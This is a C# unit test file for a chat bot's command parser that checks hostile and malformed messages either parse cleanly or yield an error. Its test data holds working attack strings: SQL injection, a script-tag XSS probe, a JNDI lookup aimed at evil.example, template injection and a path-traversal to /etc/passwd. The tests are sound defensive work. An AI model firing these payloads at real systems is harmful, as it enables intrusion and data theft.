using SecBot.Chat.Commands;
using SecBot.Chat.Parsing;
using static SecBot.Chat.Tests.TestPolicy;

namespace SecBot.Chat.Tests.Parsing;

public class HostileInputTests
{
    public static TheoryData<string> HostileMessages => new()
    {
        "'; DROP TABLE incidents;--",
        "declare '; DROP TABLE incidents;--",
        "ack INC-1; DROP TABLE incidents;--",
        "<script>alert(1)</script>",
        "declare <script>alert(1)</script>",
        "<!channel> <!here> <!everyone>",
        "declare <!channel> wake up",
        "declare \"unbalanced title level:L2",
        "declare 'unbalanced",
        "declare \u201Cunbalanced smart quotes",
        "\"",
        "'",
        "\u201D\u201C",
        "<at>",
        "<at>SecBot",
        "</at> help",
        "<@",
        "<@>",
        "<http://x|",
        "<http://x|<http://y|z>>",
        "&#0;&#1;&#x7F;&#xD800;&#x202E;",
        "&",
        "&&&&&&&&;;;;",
        "declare \u0000\u0001\u0007\u001B[31m red",
        "declare \uD800 lone high surrogate",
        "declare \uDC00 lone low surrogate",
        "declare DB\u202Edown\u202C",
        "declare \u05E9\u05E8\u05EA \u05D4\u05D3\u05D5\u05D0\u05E8 \u05E0\u05E4\u05DC",
        "\u05E2\u05D6\u05E8\u05D4",
        "declare \U0001F469\u200D\U0001F469\u200D\U0001F467 lost laptop",
        "\uFEFFhelp",
        "\u200Bhelp",
        "cover SocEngineer 9999-12-31T23:59-01:00 0001-01-01T00:00+14:00",
        "cover SocEngineer 0001-01-01T00:00+01:00 9999-12-31T23:59Z",
        "ack INC-" + new string('9', 500),
        "status REV-" + new string('0', 500) + "1",
        "level:L2",
        "declare level:level:level:",
        "declare type:",
        "declare :::: level:::",
        "\\",
        "%s%s%s%n",
        "${jndi:ldap://evil.example/a}",
        "{{7*7}}",
        "../../etc/passwd",
        "\r\r\r\r",
    };

    [Theory]
    [MemberData(nameof(HostileMessages))]
    public void Hostile_messages_yield_a_command_or_an_error_with_usage(string text) =>
        AssertWellFormed(Parser.Parse(text));

    [Fact]
    public void A_ten_kilobyte_title_is_refused_with_the_title_limit()
    {
        var error = ExpectError($"declare {new string('A', 10_240)} level:L2");
        Assert.Contains("The title is 10,240 characters long; the limit is 300", error.Problem, StringComparison.Ordinal);
    }

    [Fact]
    public void An_oversized_message_is_refused_before_parsing()
    {
        var error = ExpectError($"declare {new string('A', CommandLimits.MessageMaxLength)}");
        Assert.Contains("commands are at most 20,000", error.Problem, StringComparison.Ordinal);
        Assert.Equal(Parser.Usage.HelpText, error.Usage);
    }

    [Fact]
    public void An_error_quotes_a_long_word_back_shortened_to_one_line()
    {
        var error = ExpectError(new string('w', 5_000));
        Assert.True(error.Problem.Length < 100, error.Problem);
        Assert.Contains("…", error.Problem, StringComparison.Ordinal);
    }

    [Fact]
    public void Sql_in_a_title_is_kept_as_text_for_parameterized_storage() =>
        Assert.Equal(new DeclareCommand("'; DROP TABLE incidents;--", null, null), Parser.Parse("declare '; DROP TABLE incidents;--"));

    [Fact]
    public void Markup_in_a_title_is_kept_as_typed_for_the_renderers_to_escape() =>
        Assert.Equal(new DeclareCommand("<!channel> wake up", null, null), Parser.Parse("declare &lt;!channel&gt; wake up"));

    [Fact]
    public void An_unclosed_quote_is_an_ordinary_character() =>
        Assert.Equal(new DeclareCommand("\"unbalanced title", "L2", null), Parser.Parse("declare \"unbalanced title level:L2"));

    [Fact]
    public void Control_characters_become_spaces() =>
        Assert.Equal(new DeclareCommand("DB down", null, null), Parser.Parse("declare DB\u0000down\u0007"));

    [Fact]
    public void Bidi_override_characters_are_removed_so_echoed_titles_read_as_typed() =>
        Assert.Equal(new DeclareCommand("DBdown", null, null), Parser.Parse("declare DB\u202Edown\u2066"));

    [Fact]
    public void A_lone_surrogate_becomes_the_replacement_character() =>
        Assert.Equal(new DeclareCommand("\uFFFD broken", null, null), Parser.Parse("declare \uD800 broken"));

    [Fact]
    public void Right_to_left_text_and_emoji_sequences_are_kept_intact()
    {
        const string Title = "\u05E9\u05E8\u05EA \U0001F469\u200D\U0001F469\u200D\U0001F467 \u0645\u0631\u062D\u0628\u0627";
        Assert.Equal(new DeclareCommand(Title, null, null), Parser.Parse($"declare {Title}"));
    }

    [Fact]
    public async Task Thousands_of_unclosed_quotes_parse_in_linear_time()
    {
        const string UnclosedQuotes = "\"a '\u201Cb <at>c ";
        AssertWellFormed(Parser.Parse("declare " + string.Concat(Enumerable.Repeat(UnclosedQuotes, 1_500))));

        // A hundred times more than a message may hold: linear work takes milliseconds, while searching on from every
        // quote (quadratic) would take hours, so the guard, far from either, only stops that hang and times nothing.
        var huge = string.Concat(Enumerable.Repeat(UnclosedQuotes, 150_000));
        var tokens = await Task.Run(() => CommandTokenizer.Tokenize(huge)).WaitAsync(TimeSpan.FromSeconds(60));

        Assert.Equal(3 * 150_000, tokens.Count);
        Assert.DoesNotContain(tokens, token => token.IsQuoted);
    }

    internal static void AssertWellFormed(ParseResult result)
    {
        switch (result)
        {
            case ParseError error:
                Assert.False(string.IsNullOrWhiteSpace(error.Problem));
                Assert.False(string.IsNullOrWhiteSpace(error.Usage));
                break;
            default:
                Assert.IsAssignableFrom<ChatCommand>(result);
                break;
        }
    }
}
